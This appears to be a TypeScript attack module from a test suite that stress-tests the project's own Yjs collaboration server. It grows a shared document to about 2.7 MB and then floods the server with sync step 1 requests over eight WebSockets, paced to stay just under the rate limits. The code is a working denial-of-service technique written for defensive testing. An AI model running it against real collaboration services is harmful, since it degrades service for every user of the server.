import WebSocket from 'ws';
import { firstParagraph, openEditor, syncMessage, waitUntil } from '../../support/collab';
import { CloseTally, type OffenderRoom, offenderRoom } from '../../support/offenderRoom';
import type { Attack, AttackContext, RunningAttack } from './types';

/** Characters of each copy pasted to grow the text (three of them: about 2.7 MB). */
const COPY_CHARS = 900_000;
const COPIES = 3;
/** Characters of each update in the `many-items` shape, one struct each (the limit is 100 000). */
const ITEMS_PER_UPDATE = 90_000;
/** Connections the offender asks from (the per-participant cap). */
const SOCKETS = 8;
/** Sync step 1 messages a second, over all its connections: just inside the message budget. */
const PER_SECOND = 90;

export interface RunningSyncStep1Flood extends RunningAttack {
  room: OffenderRoom;
  tally: CloseTally;
  /** Encoded size of the text the offender grew. */
  textBytes: number;
  sent: () => number;
  /** Bytes the server sent back (sync step 2 answers, mostly). */
  receivedBytes: () => number;
}

/**
 * A delegate grows its proposal's text to about 2.7 MB (three 900 KB pastes, within the text limit),
 * then asks for the whole text again and again: a sync step 1 of a few bytes is answered with a sync
 * step 2 holding the whole document, encoded on the main thread each time (by default the text is
 * 270 000 one-character structs, typed backwards, which makes encoding slow). 90 of
 * them a second from 8 connections (inside the message budget of 100 a second), read at once.
 */
export async function startSyncStep1Flood({
  url,
  adminToken,
  shape = 'many-items',
  emptyVector = false,
}: AttackContext & {
  shape?: 'one-item' | 'many-items';
  emptyVector?: boolean;
}): Promise<RunningSyncStep1Flood> {
  const room = await offenderRoom(url, adminToken);
  const tally = new CloseTally();
  const editor = openEditor(url, room.proposalId, room.offender.token);
  await editor.synced;
  await waitUntil(() => firstParagraph(editor.doc).length > 0, 'the text');
  for (let i = 0; i < COPIES; i++) {
    const text = firstParagraph(editor.doc);
    if (shape === 'one-item') text.insert(text.length, String(i).repeat(COPY_CHARS));
    else {
      // Typed backwards, one character at a time: every character its own struct (they never merge).
      editor.doc.transact(() => {
        for (let c = 0; c < ITEMS_PER_UPDATE; c++) text.insert(0, String(c % 10));
      });
    }
    await new Promise((r) => setTimeout(r, 1200)); // the byte budget refills at 1 MiB a second
  }
  // Stored once a fresh reader gets it all.
  const reader = openEditor(url, room.proposalId, room.victim.token);
  await reader.synced;
  const want = COPIES * (shape === 'one-item' ? COPY_CHARS : ITEMS_PER_UPDATE);
  await waitUntil(() => firstParagraph(reader.doc).length >= want, 'the big text', 20_000);
  const { encodeStateAsUpdate } = await import('yjs');
  const textBytes = encodeStateAsUpdate(reader.doc).length;
  reader.destroy();
  editor.destroy();
  await new Promise((r) => setTimeout(r, 500));

  let received = 0;
  let sent = 0;
  // "Send me everything": an empty state vector, or (past any cache of the whole text) one naming a
  // client the text does not know, at clock 0.
  const step1 = syncMessage(0, new Uint8Array(emptyVector ? [0] : [1, 0x7f, 0]));
  // One request in flight per connection (the next once the answer is in), at most PER_SECOND in
  // all: the server never finds a backlog that would trip the message budget.
  const started = performance.now();
  let running = true;
  const ask = (ws: WebSocket) => {
    if (!running || ws.readyState !== ws.OPEN) return;
    const wait = (sent / PER_SECOND) * 1000 - (performance.now() - started);
    if (wait > 0) return void setTimeout(() => ask(ws), wait);
    sent++;
    ws.send(step1);
  };
  const sockets = await Promise.all(
    Array.from(
      { length: SOCKETS },
      () =>
        new Promise<WebSocket>((resolve, reject) => {
          const ws = new WebSocket(
            `${url.replace(/^http/, 'ws')}/collab/${room.proposalId}?token=${encodeURIComponent(room.offender.token)}`,
          );
          ws.on('message', (data: Buffer) => {
            received += data.length;
            // A sync step 2 (type 0, then 1): the answer to our last request.
            if (data[0] === 0 && data[1] === 1) ask(ws);
          });
          ws.on('close', (code) => tally.add(code));
          ws.once('open', () => resolve(ws));
          ws.once('error', reject);
        }),
    ),
  );
  for (const ws of sockets) ask(ws);
  return {
    room,
    tally,
    textBytes,
    sent: () => sent,
    receivedBytes: () => received,
    stop: async () => {
      running = false;
      for (const ws of sockets) ws.terminate();
      room.close();
      return `text ${Math.round(textBytes / 1024)} KiB; ${sent} sync step 1 sent, ${Math.round(received / 1024 / 1024)} MiB received; closed: ${tally}`;
    },
  };
}

export const attack: Attack = {
  name: 'sync-step1-flood',
  summary: 'a delegate grows a text to 2.7 MB, then asks for all of it 90 times a second (empty sync step 1)',
  start: startSyncStep1Flood,
};
